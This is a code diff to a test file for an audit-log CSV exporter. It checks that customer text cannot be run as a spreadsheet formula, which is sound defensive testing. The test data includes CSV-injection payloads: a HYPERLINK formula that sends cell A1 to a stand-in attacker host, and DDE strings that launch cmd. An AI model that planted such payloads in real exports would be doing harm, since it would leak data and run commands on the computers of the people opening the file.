@@ -1,5 +1,6 @@
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
+import { attackEach } from '../security/attack';
 import { auditCsv } from '../../src/ui/audit-csv';
 import { auditFileName, auditJson, isoLocal, newestFirst, withPrepared } from '../../src/ui/audit-export';
 import type { AuditEntry } from '../../src/extension/audit-log';
@@ -92,10 +93,16 @@ describe('audit CSV', () => {
     expect(csv).toContain('\r\n');
   });
 
-  it('keeps a spreadsheet from running a customer’s text as a formula', () => {
-    const csv = auditCsv([entry(1, { body: '=HYPERLINK("http://evil.example","click")' })]);
-    const row = Papa.parse<Record<string, string>>(csv.trim(), { header: true }).data[0]!;
-    expect(row.text!.startsWith('=')).toBe(false);
-    expect(row.text).toContain('HYPERLINK');
-  });
+  attackEach(
+    ['=HYPERLINK("http://evil.example/?d="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
+    (text) => `a reply text the exported CSV would hand a spreadsheet as a formula: ${text.slice(0, 12)}`,
+    (text) => {
+      const csv = auditCsv([entry(1, { body: text, detail: text, recipient: text })]);
+      const row = Papa.parse<Record<string, string>>(csv.trim(), { header: true }).data[0]!;
+      for (const cell of [row.text!, row.detail!, row.recipient!]) {
+        expect(cell).not.toMatch(/^[=+\-@]/);
+        expect(cell).toContain(text);
+      }
+    },
+  );
 });
